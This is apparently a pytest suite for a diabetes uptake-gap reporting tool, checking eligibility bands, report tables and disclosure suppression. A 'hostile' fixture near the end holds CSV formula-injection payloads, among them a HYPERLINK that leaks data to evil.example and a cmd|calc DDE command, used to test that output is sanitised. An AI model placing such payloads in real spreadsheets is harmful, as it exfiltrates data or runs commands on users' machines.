"""The uptake-gap report of ``iport-cds evaluate --population``: every enabled policy in one
pass, who each person is, the bands (already using — a held, paused device too — / meets /
potentially eligible / data missing / does not meet) read from the one technology model and
the policy's own definition of what a clinician can confirm, and the gap — meeting the
criteria and not using the technology — which is not guessed when the input holds no device
or procedure records."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import places
from disclosure import Disclosure
from facts import extract_record
from places import ethnicity, lookups
from policy import Outcome, Tri, evaluate, load_policy, parse_policy
from policy.engine import assess
from policy.loading import policy_document, policy_names
from population.cohort import IN_COHORT
from population.engine import run_population
from population.report import TABLE_COLUMNS, render_report
from population.uptake import (
    ALREADY_USING,
    DATA_MISSING,
    DIMENSIONS,
    HAS_IT,
    MEETS,
    NOT_MET,
    PERSON_COLUMNS,
    POTENTIALLY,
    PersonContext,
    age_band,
    band_of,
    person_rows,
    technology_state,
    technology_windows,
)
from tests.builders import (
    CRITERIA,
    T1DM,
    condition,
    confirmation,
    hba1c,
    insulin,
    iport_device_request,
    patient,
    registered,
)
from tests.cli.conftest import (
    DEMO_LOOKUP_OPTIONS,
    DEMO_LOOKUPS,
    DEMO_LSOA_IMD,
    DEMO_PCN,
    DEMO_POSTCODE_LSOA,
    TODAY,
    Run,
    by_patient,
    generate_population,
    one_line_error,
)
from valuesets import ValueSetLibrary

Cli = Callable[..., Run]
PATIENTS = 400
REPO = Path(__file__).resolve().parents[2]
PLACES = REPO / "demo" / "practice-places.csv"


@pytest.fixture(scope="module")
def population(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return generate_population(tmp_path_factory, PATIENTS, seed=11)


@pytest.fixture(scope="module")
def run(population: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    out = io.StringIO()
    summary = run_population(
        population,
        out,
        io.StringIO(),
        today=TODAY,
        workers=2,
        chunk_size=50,
        places_file=str(PLACES),
        lookup_files=DEMO_LOOKUPS,
    )
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    return {"summary": summary, "rows": rows}


def test_every_enabled_policy_in_one_pass(run: dict[str, Any]) -> None:
    rows = run["rows"]
    enabled = [load_policy(name).info.id for name in policy_names()]
    assert len(rows) == len(enabled) * PATIENTS
    assert Counter(r["policy_id"] for r in rows) == dict.fromkeys(enabled, PATIENTS)
    pump = load_policy("nice-insulin-pump")
    for r in rows:
        if r["policy_id"] == "nice-insulin-pump":
            assert r["policy_version"] == pump.info.version
            assert r["type-2-diabetes"] == ""  # not a criterion of this policy
    assert run["summary"].patients == PATIENTS


def test_each_row_says_what_the_full_decision_says(
    run: dict[str, Any], population: Path, vsl: ValueSetLibrary
) -> None:
    """A row is read from each policy's assessment, not its explained decision: the outcome,
    pathway, every criterion and the band are those of the full ``evaluate``, and "potentially
    eligible" is exactly "met once a clinician confirms every open confirmable criterion"."""
    grouped = by_patient(population)
    policies = {p.info.id: p for p in map(load_policy, policy_names())}
    for r in run["rows"]:
        policy = policies[r["policy_id"]]
        record = extract_record(
            grouped[r["patient_ref"]], vsl, patient_id=r["patient_ref"], criteria_system=CRITERIA
        )
        d = evaluate(policy, record, TODAY)
        assert (r["outcome"], r["pathway"]) == (d.outcome.value, d.pathway or "")
        assert {c: r[c] for c in d.criteria} == {c: x.result.value for c, x in d.criteria.items()}
        if r["band"] == ALREADY_USING:
            continue
        open_ = [c for c, x in d.criteria.items() if x.result is Tri.UNKNOWN and x.confirmable]
        confirmed = extract_record(
            [
                *grouped[r["patient_ref"]],
                *(confirmation(c, on=TODAY.isoformat(), pid=r["patient_ref"]) for c in open_),
            ],
            vsl,
            patient_id=r["patient_ref"],
            criteria_system=CRITERIA,
        )
        expected = {
            Outcome.MEETS: MEETS,
            Outcome.DOES_NOT_MEET: NOT_MET,
            Outcome.INSUFFICIENT: POTENTIALLY
            if open_ and evaluate(policy, confirmed, TODAY).outcome is Outcome.MEETS
            else DATA_MISSING,
        }[d.outcome]
        assert r["band"] == expected, (r["patient_ref"], policy.info.id)


def test_who_each_person_is(run: dict[str, Any], population: Path, vsl: ValueSetLibrary) -> None:
    grouped = by_patient(population)
    table = dict(line.split(",") for line in PLACES.read_text().splitlines()[1:])
    networks = lookups.load_practice_networks(DEMO_PCN)
    areas = lookups.load_postcode_areas(DEMO_POSTCODE_LSOA)
    quintiles = lookups.load_area_quintiles(DEMO_LSOA_IMD)
    ethnic = ethnicity.load_ethnic_categories()
    for r in run["rows"]:
        resources = grouped[r["patient_ref"]]
        (p,) = (x for x in resources if x["resourceType"] == "Patient")
        assert r["sex"] == p["gender"]
        gp = p.get("generalPractitioner")
        practice = gp[0]["identifier"]["value"] if gp and "identifier" in gp[0] else ""
        assert r["practice_code"] == practice
        assert r["place"] == table.get(practice, "unknown")
        network = networks.get(practice)
        assert r["pcn_code"] == (network.code if network else "")
        postcode = p["address"][0]["postalCode"].upper().replace(" ", "")
        area = areas.get(f"{postcode[:-3]} {postcode[-3:]}")
        assert r["deprivation_quintile"] == (quintiles.get(area, "") if area else "")
        coding = p["extension"][0]["valueCodeableConcept"]["coding"][0]
        assert r["ethnic_group"] == ethnic.group_of[coding["code"]]
        record = extract_record(
            resources, vsl, patient_id=r["patient_ref"], criteria_system=CRITERIA
        )
        assert r["age_band"] == age_band(record, TODAY)
        if record.hba1c:
            latest = max(record.hba1c, key=lambda h: h.date)
            assert r["latest_hba1c_date"] == latest.date.isoformat()
            assert float(r["latest_hba1c_mmol_mol"]) == pytest.approx(latest.mmol_mol, abs=0.05)
        else:
            assert r["latest_hba1c_mmol_mol"] == r["latest_hba1c_date"] == ""
        # a pump started years ago is still in use; an active i-Port order is on order
        has_pump = any(x["resourceType"] == "Procedure" for x in resources)
        assert r["on_insulin_pump"] == ("in use" if has_pump else "no")
        has_iport = any(x["resourceType"] == "DeviceRequest" for x in resources)
        assert r["on_iport"] == ("on order" if has_iport else "no")


def test_the_bands_and_the_gap_are_not_trivial(run: dict[str, Any]) -> None:
    """The generated population reaches every band that matters and has a gap to show."""
    rows = run["rows"]
    iport = Counter(r["band"] for r in rows if r["policy_id"] == "hny-iport-advance")
    pump = Counter(r["band"] for r in rows if r["policy_id"] == "nice-insulin-pump")
    for band in (MEETS, POTENTIALLY, NOT_MET):
        assert iport[band] > 0, band
    for band in (MEETS, NOT_MET):
        assert pump[band] > 0, band
    gap = [r for r in rows if r["band"] == MEETS and r["technology_in_use"] == "no"]
    in_use = [r for r in rows if r["band"] == ALREADY_USING]
    assert gap
    assert in_use  # counted apart: people already using it are not "meets" nor the gap
    assert {r["technology_in_use"] for r in in_use} <= HAS_IT  # an i-Port on order too
    tally = run["summary"].tally
    for policy in ("hny-iport-advance", "nice-insulin-pump"):
        cohort = [r for r in rows if r["policy_id"] == policy and r["cohort"] == IN_COHORT]
        assert 0 < len(cohort) < PATIENTS  # the generator writes people outside each cohort
        meets = sum(r["band"] == MEETS for r in cohort)
        for dim in DIMENSIONS:
            groups = tally.breakdown(policy, dim)
            assert sum(g["people"] for g in groups) == len(cohort)
            assert sum(g["gap"] for g in groups) == meets
            assert sum(g["meets"] for g in groups) == meets


def test_the_report_is_one_html_file_with_a_table_for_every_chart(
    cli: Cli, population: Path, tmp_path: Path
) -> None:
    out, report = tmp_path / "people.csv", tmp_path / "report.html"
    result = cli(
        "evaluate", "--population", str(population), "--out", str(out), "--report", str(report),
        "--places", str(PLACES), *DEMO_LOOKUP_OPTIONS, "--workers", "1",
        "--today", TODAY.isoformat(),
    )  # fmt: skip
    assert result.code == 0, result.err
    html = report.read_text(encoding="utf-8")
    assert "<script src=" not in html  # self-contained
    assert "<link" not in html
    figures = re.findall(r"<figure>.*?</figure>", html, re.DOTALL)
    assert all("<table" in f for f in figures)  # a table of numbers for every chart
    # per enabled policy: bands and 5 breakdowns drawn; practice and network as tables only
    assert html.count("<canvas") == len(policy_names()) * (1 + 5)
    assert len(figures) == len(policy_names()) * (1 + 7)
    assert html.count('data-dimension="practice_code"') == len(policy_names())
    assert "Aire Surgery" in html  # a practice's name beside its code
    assert html.count("Uptake (95 % CI)</th>") == len(policy_names()) * 7  # in every table
    # every table also as CSV, with the MeasureReport's figures (both disclosure-controlled)
    assert f"tables (CSV): {tmp_path / 'report.tables.csv'}" in result.err
    text = (tmp_path / "report.tables.csv").read_text(encoding="utf-8")
    tables = list(csv.DictReader(io.StringIO(text)))
    assert list(tables[0]) == list(TABLE_COLUMNS)
    measure = json.loads((tmp_path / "report.measurereport.json").read_text(encoding="utf-8"))
    for group in measure["group"]:
        policy = group["code"]["coding"][0]["code"]
        mine = [t for t in tables if t["policy_id"] == policy]
        cohort = next(p for p in group["population"] if p["code"]["coding"][0]["code"] == "cohort")
        assert mine[0]["table"] == "policy"
        assert mine[0]["cohort"] == str(cohort.get("count", "<8"))
        practice = next(
            s for s in group["stratifier"] if s["code"][0]["coding"][0]["code"] == "practice"
        )
        strata = {
            st["value"]["coding"][0]["code"]: st
            for st in practice["stratum"]
            if "coding" in st["value"]
        }
        for t in mine:
            if t["table"] == "practice_code" and t["group"] in strata:
                count = next(
                    p
                    for p in strata[t["group"]]["population"]
                    if p["code"]["coding"][0]["code"] == "cohort"
                )
                assert t["cohort"] == str(count.get("count", "<8")), t
    assert not [t for t in tables if t["cohort"] in {"1", "2", "3", "4", "5", "6", "7"}]
    assert 'id="data-quality"' in html
    assert "Chart.js" in html or "chart.js" in html
    assert "Potentially eligible" in html
    assert "cannot be measured" not in html
    assert "Vale of York" in html
    # NICE guidance ('england' in its policy files) covers every place; England is no place
    assert '<th scope="row">England</th>' not in html
    assert "Places covered: every place (East Riding of Yorkshire, Hull," in html
    assert "national guidance for all of England" in html
    assert f"uptake-gap report: {report}" in result.err
    # Titled by the places it covers and the date; the folder is only the data source.
    title = re.search(r"<title>([^<]*)</title>", html)
    assert title
    assert title.group(1).startswith("Uptake gap: East Riding of Yorkshire, Hull, ")
    assert title.group(1).endswith(f", evaluated {TODAY.isoformat()}")
    assert population.name not in title.group(1)
    assert f"Data source: {population.name}." in html
    # The gap in words: who meets the criteria and does not have the technology.
    assert "the gap (not already on an insulin pump)" in html
    assert "the gap (not already using a hybrid closed loop system)" in html
    assert (
        "the gap (not already using an i-Port and not already on an insulin pump and no i-Port "
        "on order)" in html
    )
    assert "not using already" not in html
    # An aggregate for commissioners: small numbers suppressed, the rest rounded; the
    # per-person CSV beside it is record-level and exact.
    cells = re.findall(r'<td class="n">([^<]*)</td>', html)
    assert [c for c in cells if re.fullmatch(r"[1-7]", c)] == []
    assert "&lt;8" in cells
    assert "a count from 1 to 7 is shown as “&lt;8”" in html
    meets = exact_band(out, MEETS)
    assert 1 <= meets <= 7  # this population: a handful meet the i-Port policy
    assert band_cell(html, "Meets") == "&lt;8"
    counts = {b: exact_band(out, b) for b in (NOT_MET, DATA_MISSING, POTENTIALLY, ALREADY_USING)}
    big = next(b for b, n in counts.items() if n > 7)
    assert band_cell(html, big.capitalize()) == f"{5 * ((counts[big] + 2) // 5):,}"


def exact_band(people_csv: Path, band: str) -> int:
    with people_csv.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    return sum(
        r["policy_id"] == "hny-iport-advance" and r["cohort"] == IN_COHORT and r["band"] == band
        for r in rows
    )


def band_cell(html: str, band: str) -> str:
    """The first policy's (the i-Port's) people in ``band``, as the report shows it."""
    found = re.search(rf'<tr><th scope="row">{band}</th><td class="n">([^<]*)</td>', html)
    assert found, band
    return found.group(1)


def test_small_number_threshold_0_gives_exact_figures_for_a_local_audit(
    cli: Cli, population: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("IPORT_CDS_SMALL_NUMBER_THRESHOLD", "0")
    out, report = tmp_path / "people.csv", tmp_path / "report.html"
    result = cli(
        "evaluate", "--population", str(population), "--out", str(out), "--report", str(report),
        "--places", str(PLACES), "--workers", "1", "--today", TODAY.isoformat(),
    )  # fmt: skip
    assert result.code == 0, result.err
    html = report.read_text(encoding="utf-8")
    assert band_cell(html, "Meets") == f"{exact_band(out, MEETS):,}"
    assert band_cell(html, "Does not meet") == f"{exact_band(out, NOT_MET):,}"
    assert "Small-number suppression is off" in html
    assert "&lt;8" not in html


def test_a_bad_small_number_threshold_is_a_usage_error(
    cli: Cli, population: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("IPORT_CDS_SMALL_NUMBER_THRESHOLD", "-3")
    result = cli("evaluate", "--population", str(population), "--today", TODAY.isoformat())
    assert result.code == 2
    assert "SMALL_NUMBER_THRESHOLD must be a whole number" in one_line_error(result)


def test_without_device_or_procedure_records_the_gap_is_not_guessed(
    population: Path, tmp_path: Path
) -> None:
    bare = tmp_path / "bare"
    shutil.copytree(population, bare)
    (bare / "Procedure.ndjson").unlink()
    (bare / "DeviceRequest.ndjson").unlink()
    out = io.StringIO()
    summary = run_population(bare, out, io.StringIO(), today=TODAY, workers=1)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {r["on_insulin_pump"] for r in rows} == {"unknown"}
    assert {r["on_iport"] for r in rows} == {"unknown"}
    assert {r["technology_in_use"] for r in rows} == {"unknown"}
    assert not summary.tally.technology_data
    assert all(g["gap"] is None for g in summary.tally.breakdown("nice-insulin-pump", "place"))
    from population.engine import summary_text

    html = render_report(summary, today=TODAY, source="bare", disclosure=Disclosure())
    assert "The uptake gap cannot be measured from this input" in html
    assert "cannot be measured" in summary_text(summary)
    assert "No deprivation lookups were given" in html


def type1_on_mdi(**extra: Any) -> list[dict[str, Any]]:
    resources = [
        patient(),
        condition(T1DM),
        insulin(text="with meals"),
        insulin(text="at night"),
    ]
    if extra.get("hba1c"):
        resources.append(hba1c(extra["hba1c"], on="2026-10-01"))
    return resources


def iport_with_confirmable(confirmable: dict[str, bool]) -> Any:
    doc = policy_document("iport-advance")
    for c in [*doc["criteria"], *doc["derived"]]:
        if c["id"] in confirmable:
            c["confirmable"] = confirmable[c["id"]]
    return parse_policy(doc)


@pytest.mark.parametrize(
    ("hba1c_value", "confirmable", "band"),
    [
        # HbA1c 75 on MDI: only the i-Port criterion is open, and a clinician may confirm it
        (75, {}, POTENTIALLY),
        # ...unless the policy says none of the open criteria is a clinician's to confirm
        (
            75,
            {
                "mdi-impractical": False,
                "needle-phobia": False,
                "hba1c-above-69-with-poor-adherence": False,
                "lipohypertrophy": False,
            },
            DATA_MISSING,
        ),
    ],
)
def test_potentially_eligible_reads_confirmability_from_the_policy(
    vsl: ValueSetLibrary, hba1c_value: int | None, confirmable: dict[str, bool], band: str
) -> None:
    policy = iport_with_confirmable(confirmable)
    record = extract_record(
        type1_on_mdi(hba1c=hba1c_value), vsl, patient_id="pat-1", criteria_system=CRITERIA
    )
    assert band_of(assess(policy, record, TODAY), record, TODAY) == band


@pytest.mark.parametrize(
    ("option", "text", "message"),
    [
        ("--places", "practice_code,place\nZ11001,atlantis\n", "line 2: place 'atlantis'"),
        ("--pcn-table", "practice_ods,pcn_code,pcn_name\nZ11001,U1 2,x\n", "line 2: pcn_code"),
        ("--postcode-lsoa", "postcode,lsoa\n", "header must be exactly 'postcode,lsoa_code'"),
        ("--lsoa-imd", "lsoa_code,imd_quintile\nE01000001,7\n", "line 2: imd_quintile must"),
    ],
)
def test_a_bad_table_is_a_usage_error(
    cli: Cli, population: Path, tmp_path: Path, option: str, text: str, message: str
) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text(text, encoding="utf-8")
    # the deprivation lookups come as a pair: the other one of the pair is the demo's
    pair = {"--postcode-lsoa": "--lsoa-imd", "--lsoa-imd": "--postcode-lsoa"}
    good = (
        DEMO_LOOKUP_OPTIONS[DEMO_LOOKUP_OPTIONS.index(pair[option]) :][:2] if option in pair else ()
    )
    result = cli("evaluate", "--population", str(population), option, str(bad), *good)
    assert result.code == 2
    assert message in one_line_error(result)


def test_the_deprivation_lookups_come_as_a_pair(cli: Cli, population: Path) -> None:
    result = cli("evaluate", "--population", str(population), *DEMO_LOOKUP_OPTIONS[2:4])
    assert result.code == 2
    assert "needs both --postcode-lsoa and --lsoa-imd" in one_line_error(result)


@pytest.mark.parametrize(
    ("birth_date", "band"),
    [
        ("2014-11-22", "0-11"),  # 11 the day before the 12th birthday
        ("2014-11-21", "12-17"),  # 12 on the day
        ("2008-11-22", "12-17"),
        ("2008-11-21", "18-39"),
        ("1961-11-22", "40-64"),
        ("1961-11-21", "65+"),
        ("1990", "18-39"),  # a year only: the youngest age it allows
        (None, "unknown"),
        ("2026-11-22", "unknown"),  # after today: not plausible
        ("1905-11-21", "unknown"),  # over 120: not plausible
        ("1906-11-21", "65+"),  # 120
    ],
)
def test_age_bands(vsl: ValueSetLibrary, birth_date: str | None, band: str) -> None:
    record = extract_record(
        [patient(birth_date=birth_date)], vsl, patient_id="pat-1", criteria_system=CRITERIA
    )
    assert age_band(record, TODAY) == band


def pump_procedure() -> dict[str, Any]:
    return {
        "resourceType": "Procedure",
        "id": "pump-1",
        "status": "completed",
        "code": {"coding": [{"system": "http://snomed.info/sct", "code": "180178009"}]},
        "subject": {"reference": "Patient/pat-1"},
        "performedDateTime": "2024-03-01",
    }


def supplied_iport() -> dict[str, Any]:
    return {**iport_device_request(status="completed"), "authoredOn": "2026-10-01"}


def held_pump() -> dict[str, Any]:
    return {
        "resourceType": "DeviceUseStatement",
        "id": "pump-use-1",
        "status": "on-hold",
        "subject": {"reference": "Patient/pat-1"},
        "device": {"display": "YpsoPump insulin pump"},
        "recordedOn": "2026-11-02",
    }


@pytest.mark.parametrize(
    ("policy_name", "extra", "state"),
    [
        ("nice-insulin-pump", [pump_procedure()], "in use"),  # on a pump since 2024
        ("nice-insulin-pump", [held_pump()], "held"),  # paused: held, not absent
        ("nice-insulin-pump", [], "no"),
        ("iport-advance", [supplied_iport()], "in use"),  # an order filled: in use
        ("iport-advance", [iport_device_request(status="active")], "on order"),
        ("iport-advance", [iport_device_request(status="draft")], "no"),  # not yet ordered
        # the i-Port is an alternative to a pump: a pump user is not in the i-Port's gap
        ("iport-advance", [pump_procedure()], "in use"),
        ("nice-hybrid-closed-loop", [pump_procedure()], "no"),  # a pump is not HCL
    ],
)
def test_technology_state_is_what_the_policy_stays_silent_for(
    vsl: ValueSetLibrary, policy_name: str, extra: list[dict[str, Any]], state: str
) -> None:
    policy = load_policy(policy_name)
    record = extract_record(
        [*type1_on_mdi(hba1c=75), *extra], vsl, patient_id="pat-1", criteria_system=CRITERIA
    )
    assert technology_state(policy, record, TODAY) == state


@pytest.mark.parametrize(
    ("extra", "pump_band", "columns"),
    [
        ([pump_procedure()], ALREADY_USING, {"on_insulin_pump": "in use"}),
        ([held_pump()], ALREADY_USING, {"on_insulin_pump": "held"}),
        (
            [{**held_pump(), "device": {"display": "Omnipod 5"}}],
            ALREADY_USING,
            {
                "on_insulin_pump": "held",
                "on_hybrid_closed_loop": "held",
                "on_real_time_cgm": "held",
            },
        ),
        ([], MEETS, {"on_insulin_pump": "no", "on_hybrid_closed_loop": "no"}),
    ],
)
def test_people_already_using_or_holding_a_technology_are_counted_apart_from_meets(
    vsl: ValueSetLibrary, extra: list[dict[str, Any]], pump_band: str, columns: dict[str, str]
) -> None:
    policies = [
        load_policy(n) for n in ("iport-advance", "nice-insulin-pump", "nice-hybrid-closed-loop")
    ]
    resources = [*type1_on_mdi(hba1c=75), *extra]
    record = extract_record(resources, vsl, patient_id="pat-1", criteria_system=CRITERIA)
    ctx = PersonContext(
        TODAY, places.load_directory(None, None, set()), {}, True, technology_windows(policies)
    )
    rows = [
        dict(zip(PERSON_COLUMNS, row, strict=False))
        for row in person_rows("pat-1", resources, record, policies, (), ctx)
    ]
    pump = next(r for r in rows if r["policy_id"] == "nice-insulin-pump")
    assert pump["band"] == pump_band
    for column, value in columns.items():
        assert pump[column] == value, column


HOSTILE_GENDERS = {
    "p-formula": '=HYPERLINK("http://evil.example/?leak="&A2,"open")',
    "p-command": "+cmd|' /C calc'!A0",
    "p-markup": "<!--<script>",
    "p-name": "Jane Smith 943 476 5919",  # free text: a name and an NHS number
    "p-male": "male",
    "p-other": "other",
    "p-none": None,
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A population whose Patient resources carry formulas, markup and free text where a
    code belongs, and an id a spreadsheet would read as a formula."""
    folder = tmp_path_factory.mktemp("hostile")
    people = {**HOSTILE_GENDERS, "-2+3+cmd": "female"}
    patients, conditions = [], []
    for pid, gender in people.items():
        p = registered(patient(pid=pid))
        if gender is not None:
            p["gender"] = gender
        patients.append(p)
        conditions.append(condition(T1DM, pid=pid))
    for name, resources in (("Patient", patients), ("Condition", conditions)):
        lines = (json.dumps(r) for r in resources)
        (folder / f"{name}.ndjson").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


def test_every_cell_of_the_per_person_csv_is_safe_to_open(hostile: Path) -> None:
    out = io.StringIO()
    run_population(hostile, out, io.StringIO(), today=TODAY, workers=1)
    cells = [c for r in csv.reader(io.StringIO(out.getvalue())) for c in r]
    live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [c for c in live if not re.fullmatch(r"[+-]?[0-9.]+", c)] == []
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {r["patient_ref"] for r in rows} >= {"'-2+3+cmd", "p-formula"}


def test_groups_are_built_only_from_administrative_gender_codes(hostile: Path) -> None:
    out = io.StringIO()
    summary = run_population(hostile, out, io.StringIO(), today=TODAY, workers=1)
    sex = {r["patient_ref"]: r["sex"] for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert sex == {
        "p-formula": "other/unknown",
        "p-command": "other/unknown",
        "p-markup": "other/unknown",
        "p-name": "other/unknown",
        "p-male": "male",
        "p-other": "other",
        "p-none": "unknown",
        "'-2+3+cmd": "female",
    }
    groups = {g["group"] for g in summary.tally.breakdown("hny-iport-advance", "sex")}
    assert groups == {"female", "male", "other", "other/unknown", "unknown"}
    html = render_report(summary, today=TODAY, source="hostile", disclosure=Disclosure(0))
    for text in ("HYPERLINK", "cmd|", "<!--", "Jane Smith", "943 476 5919"):
        assert text not in html


def test_technology_recorded_only_as_supplies_is_measured(tmp_path: Path) -> None:
    """An export with no Device or Procedure records, where flash glucose monitoring is only a
    prescription of sensors: use is still measured, not 'unknown'."""
    export = tmp_path / "supplies"
    export.mkdir()
    sensors = {
        "resourceType": "MedicationRequest",
        "id": "mr-libre",
        "status": "active",
        "intent": "order",
        "subject": {"reference": "Patient/pat-1"},
        "authoredOn": "2026-11-01",
        "medicationCodeableConcept": {"text": "FreeStyle Libre 2 Sensor"},
    }
    by_type: dict[str, list[dict[str, Any]]] = {}
    for r in [*type1_on_mdi(hba1c=75), sensors]:
        by_type.setdefault(r["resourceType"], []).append(r)
    for rtype, resources in by_type.items():
        lines = "\n".join(json.dumps(r) for r in resources) + "\n"
        (export / f"{rtype}.ndjson").write_text(lines, encoding="utf-8")
    out = io.StringIO()
    summary = run_population(export, out, io.StringIO(), today=TODAY, workers=1)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {r["on_intermittently_scanned_cgm"] for r in rows} == {"in use"}
    assert {r["on_insulin_pump"] for r in rows} == {"no"}
    assert summary.tally.technology_data


READ_V2 = "http://read.info/readv2"
READ_T1 = (READ_V2, "C10E.", "C10E.")  # as some extracts carry it: the code, no words
READ_T1_WORDS = (READ_V2, "C10E.", "Type 1 diabetes mellitus")  # its words are read


def test_a_diagnosis_coded_only_in_read_v2_is_named_as_the_cause(tmp_path: Path) -> None:
    """A type 1 diagnosis written only in Read v2, which no value set covers, is not read: the
    person is outside the type 1 cohorts for want of the diagnosis, and the data-quality
    section names Read v2 as the cause. A deceased person is outside for that reason alone, and
    a Read v2 coding whose words the value sets match is read, so it is no such cause."""
    people = {
        "read-coded": [registered(patient(pid="read-coded")), condition(READ_T1, pid="read-coded")],
        "snomed-coded": [
            registered(patient(pid="snomed-coded")),
            condition(T1DM, pid="snomed-coded"),
        ],
        "read-words": [
            registered(patient(pid="read-words")),
            condition(READ_T1_WORDS, pid="read-words"),
        ],
        "read-deceased": [
            {**registered(patient(pid="read-deceased")), "deceasedBoolean": True},
            condition(READ_T1, pid="read-deceased"),
        ],
    }
    export = tmp_path / "export"
    export.mkdir()
    for rtype in ("Patient", "Condition"):
        lines = [json.dumps(r) for rs in people.values() for r in rs if r["resourceType"] == rtype]
        (export / f"{rtype}.ndjson").write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = io.StringIO()
    summary = run_population(export, out, io.StringIO(), today=TODAY, workers=1)
    rows = {
        (r["patient_ref"], r["policy_id"]): r for r in csv.DictReader(io.StringIO(out.getvalue()))
    }
    assert rows[("read-coded", "nice-insulin-pump")]["cohort"].startswith("no type 1 diabetes")
    assert rows[("read-coded", "nice-insulin-pump")]["uncovered_code_systems"] == READ_V2
    assert rows[("snomed-coded", "nice-insulin-pump")]["uncovered_code_systems"] == ""
    # the words of a Read v2 coding are read ("Type 1 diabetes mellitus"): not a gap
    assert rows[("read-words", "nice-insulin-pump")]["cohort"] == "in"
    assert rows[("read-words", "nice-insulin-pump")]["uncovered_code_systems"] == ""
    tally = summary.tally
    assert tally.uncovered[("nice-insulin-pump", READ_V2)] == 1  # not the deceased person
    html = render_report(summary, today=TODAY, source="read", disclosure=Disclosure(0))
    quality = html[html.index('id="data-quality"') :]
    assert "<td>Read v2</td>" in quality
